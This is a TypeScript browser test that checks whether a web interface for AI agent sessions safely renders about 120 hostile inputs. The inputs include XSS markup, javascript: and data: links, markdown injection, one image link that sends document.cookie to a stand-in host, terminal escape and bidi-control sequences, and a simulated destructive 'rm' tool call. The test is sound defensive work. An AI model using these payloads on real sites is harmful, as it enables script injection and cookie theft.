/** What models and tools write is hostile: 120 payloads in every place that shows them run nothing and ask nobody. */
import assert from 'node:assert/strict'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { whyNoBrowser } from './browser.js'
import { type PageStage, startPageStage } from './page-stage.js'

const BAD = 'globalThis.ran=1'
const ELSEWHERE = 'http://elsewhere.invalid'

/** Markup and addresses that would do something in a page that took them for more than text. */
const PAYLOADS: readonly string[] = [
  ...[
    'img src=x onerror',
    'svg onload',
    'body onload',
    'video src=x onerror',
    'audio src=x onerror',
    'iframe onload',
  ].map((start) => `<${start}="${BAD}">`),
  ...[
    'details open ontoggle',
    'input autofocus onfocus',
    'select autofocus onfocus',
    'marquee onstart',
    'style onload',
  ].map((start) => `<${start}=${BAD}>x`),
  `<script>${BAD}</script>`,
  `<SCRIPT SRC="${ELSEWHERE}/x.js"></SCRIPT>`,
  `<script type=module>import "${ELSEWHERE}/x.js"</script>`,
  `</textarea><script>${BAD}</script>`,
  `</title><script>${BAD}</script>`,
  `</style><script>${BAD}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${BAD}>">`,
  `<svg><script>${BAD}</script></svg>`,
  `<svg><animate onbegin=${BAD} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${BAD}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${BAD}</script></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${BAD}>`,
  `<form><button formaction="javascript:${BAD}">x</button></form>`,
  `<object data="javascript:${BAD}"></object>`,
  `<embed src="${ELSEWHERE}/x.swf">`,
  `<link rel=stylesheet href="${ELSEWHERE}/x.css">`,
  `<link rel=preload as=image href="${ELSEWHERE}/x.png">`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=parent.ran=1>"></iframe>`,
  `<img src="${ELSEWHERE}/pixel.png">`,
  `<picture><source srcset="${ELSEWHERE}/a.png"><img></picture>`,
  `<input type=image src="${ELSEWHERE}/a.png">`,
  `<table background="${ELSEWHERE}/a.png"><tr><td>x</table>`,
  `<div style="background:url(${ELSEWHERE}/a.png)">x</div>`,
  `<style>@import "${ELSEWHERE}/x.css";*{color:red}</style>`,
  `<a href="javascript:${BAD}">click</a>`,
  `<a ping="${ELSEWHERE}" href="/">x</a>`,
  `<template shadowrootmode=open><script>${BAD}</script></template>`,
  `<dialog open onclose=${BAD}>x</dialog>`,
  `<xss id=x tabindex=1 onfocus=${BAD}></xss>`,
  `<custom-element onanimationend=${BAD} style="animation:x">`,
  ...[
    'javascript',
    'JaVaScRiPt',
    'vbscript',
    'data',
    'file',
    'blob',
    'filesystem',
    'intent',
    'view-source',
    'about',
  ].map((scheme) => `[x](${scheme}:${BAD})`),
  `[x](javascript&colon;${BAD})`,
  `[x](java\u0000script:${BAD})`,
  `[x](\u0001javascript:${BAD})`,
  `[x]( javascript:${BAD})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](data:image/svg+xml,<svg onload=${BAD}>)`,
  `[x](//elsewhere.invalid/a)`,
  `[x](/v1/logout)`,
  `[x](http://user:pass@elsewhere.invalid/)`,
  `[https://bank.example](${ELSEWHERE})`,
  `<javascript:${BAD}>`,
  `javascript:${BAD}`,
  `![x](${ELSEWHERE}/pixel.png)`,
  `![x](javascript:${BAD})`,
  `![x" onerror="${BAD}](${ELSEWHERE}/a.png)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![](${ELSEWHERE}/?q=\${document.cookie})`,
  `[![x](${ELSEWHERE}/a.png)](javascript:${BAD})`,
  `[x]: javascript:${BAD}\n\n[x]`,
  '```html\n<img src=x onerror=globalThis.ran=1>\n```',
  '```"><img src=x onerror=globalThis.ran=1>\ncode\n```',
  '```js onload=globalThis.ran=1\ncode\n```',
  `\`<img src=x onerror=${BAD}>\``,
  `| <img src=x onerror=${BAD}> | b |\n|---|---|\n| <svg onload=${BAD}> | 2 |`,
  `- [ ] <img src=x onerror=${BAD}>`,
  `> <img src=x onerror=${BAD}>`,
  `# <img src=x onerror=${BAD}>`,
  `$$<img src=x onerror=${BAD}>$$`,
  `1. <script>${BAD}</script>`,
  `**<b onmouseover=${BAD}>bold</b>**`,
  `&lt;img src=x onerror=${BAD}&gt;`,
  `&#60;script&#62;${BAD}&#60;/script&#62;`,
  `\u003cimg src=x onerror=${BAD}\u003e`,
  `{{constructor.constructor('${BAD}')()}}`,
  `\${${BAD}}`,
  `"><img src=x onerror=${BAD}>`,
  `'-${BAD}-'`,
  `" autofocus onfocus="${BAD}`,
  `' onclick='${BAD}`,
  `--><img src=x onerror=${BAD}>`,
  `]]><img src=x onerror=${BAD}>`,
  `<![CDATA[<img src=x onerror=${BAD}>]]>`,
  `<!--[if IE]><script>${BAD}</script><![endif]-->`,
  `<?xml version="1.0"?><?xml-stylesheet href="${ELSEWHERE}/x.xsl"?>`,
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'then', 'innerHTML', 'dangerouslySetInnerHTML'],
  '\u001b[31mred\u001b[0m\u001b]8;;javascript:globalThis.ran=1\u0007link\u001b]8;;\u0007',
  `\u001b]0;title\u0007\u001b]52;c;${'QQ=='.repeat(8)}\u0007copied`,
  '\u001b[2J\u001b[H\u001b[?1049hscreen',
  '\u001bP1$r0m\u001b\\device',
  '\u009b31mred by one byte',
  'over\rwritten',
  `<plaintext onpointerover=${BAD}>x`,
  `<button popovertarget=x onclick=${BAD}>x</button><div id=x popover onbeforetoggle=${BAD}>y</div>`,
  `<img srcset="${ELSEWHERE}/a.png 2x" loading=eager>`,
  'a\u202etxt.exe\u202c',
  '\u2066hidden\u2069 \u2067more\u2069',
  'zero\u200bwidth\ufeff',
  'tag\u{e0041}\u{e007f}s',
  '\u0000\u0008\u007fcontrols',
  'x'.repeat(5000),
]

describe('hostile text', { skip: whyNoBrowser !== undefined }, () => {
  let stage: PageStage
  before(async () => {
    stage = await startPageStage({})
  })
  after(async () => {
    await stage[Symbol.asyncDispose]()
  })

  test(`${PAYLOADS.length} payloads: no script runs, nobody else is asked, nothing turns the text around`, async () => {
    assert.ok(PAYLOADS.length >= 120, String(PAYLOADS.length))
    const { serving, stories } = stage
    const cwd = serving.options.cwd
    const folder = join(cwd, '<img src=x onerror=globalThis.ran=1>')
    mkdirSync(folder)
    writeFileSync(join(folder, 'out.txt'), PAYLOADS.join('\n'))
    const options = (at: number) =>
      [0, 1].map((n) => ({ label: PAYLOADS[at + n]?.slice(0, 100) ?? '', description: PAYLOADS[at + 2 + n] ?? '' }))
    const tools = [
      { name: 'Read', input: { file_path: join(folder, 'out.txt') } },
      { name: 'Bash', input: { command: `cat '${join(folder, 'out.txt')}'` } },
      {
        name: 'TodoWrite',
        input: { todos: PAYLOADS.map((content) => ({ content, status: 'pending', activeForm: content })) },
      },
      { name: `mcp__${'x'.repeat(20)}__<img src=x>`.replace(/[^\w-]/g, '_'), input: { html: PAYLOADS } },
      {
        name: 'Write',
        input: { file_path: join(folder, '<svg onload=globalThis.ran=1>.html'), content: PAYLOADS.join('\n') },
      },
    ]
    stories['all'] = [
      { thinking: PAYLOADS.join('\n\n'), text: PAYLOADS.join('\n\n'), tools },
      {
        tools: [
          {
            name: 'Bash',
            input: { command: `rm ${PAYLOADS.slice(0, 40).join(' ').replaceAll("'", '')}`, description: PAYLOADS[0] },
          },
        ],
      },
      {
        tools: [
          {
            name: 'AskUserQuestion',
            input: {
              questions: [{ question: `${PAYLOADS[3]}?`, header: '<b>x', options: options(10), multiSelect: false }],
            },
          },
        ],
      },
      { tools: [{ name: 'ExitPlanMode', input: { plan: PAYLOADS.join('\n\n') } }] },
      'The end.',
    ]
    const session = await serving.begin({ title: PAYLOADS.slice(0, 3).join(' '), mode: 'acceptEdits' })
    await serving.send(session, 'first', 'all')
    const page = await stage.open(`#/s/${session}`)
    const check = async (where: string) => {
      assert.equal(await page.evaluate(() => (globalThis as unknown as { ran?: number }).ran), undefined, where)
      assert.deepEqual(stage.problems, [], where)
      const found = await page.evaluate(() => ({
        markup: document.querySelectorAll(
          '#page :is(script, iframe, object, embed, style, base, meta, link, form[action], [onerror], [onload], [srcdoc])',
        ).length,
        links: [...document.querySelectorAll<HTMLAnchorElement>('.markdown a[href]')].map(
          ({ protocol, rel, target }) => `${protocol} ${rel.includes('noopener')} ${target}`,
        ),
        turned: /[\u202a-\u202e\u2066-\u2069\u0000-\u0008\u001b\u009b]/.test(document.body.innerText),
      }))
      assert.deepEqual([found.markup, found.turned], [0, false], where)
      for (const link of found.links) assert.match(link, /^(https?|mailto): true _blank$/, where)
    }
    const open = async () => {
      for (const fold of await page.getByRole('button', { expanded: false }).all())
        if (await fold.isVisible()) await fold.click({ timeout: 2000 }).catch(() => {})
    }
    // Each card in turn, in the conversation; what is above it unfolded.
    for (const kind of ['Permission', 'Question', 'Plan']) {
      await page.getByRole('article', { name: new RegExp(`^${kind}`) }).waitFor()
      await check(kind)
      const { asks } = (await serving.call('GET', '/v1/asks')).json
      const answers = {
        Permission: { kind: 'deny', message: PAYLOADS[1] },
        Question: { kind: 'answers', answers: { [`${PAYLOADS[3]}?`]: PAYLOADS[12] } },
        Plan: { kind: 'revise', comments: PAYLOADS[2] },
      }
      const body = answers[kind as keyof typeof answers]
      const sent = await serving.call('POST', `/v1/sessions/${session}/asks/${asks[0].id}/answer`, { body })
      assert.equal(sent.status, 204, sent.text)
    }
    await page.getByText('The end.').waitFor()
    const scroller = page.getByRole('region', { name: 'Conversation' })
    for (const top of [0, 1500, 4000, 9000, 20_000]) {
      await scroller.evaluate((node, to) => node.scrollTo({ top: to }), top)
      await open()
      await check(`at ${top}`)
    }
    // The text itself is there, as text.
    await scroller.evaluate((node) => node.scrollTo({ top: 0 }))
    assert.match(await scroller.innerText(), /<script>globalThis\.ran=1<\/script>/)
    await page.context().close()
  })
})
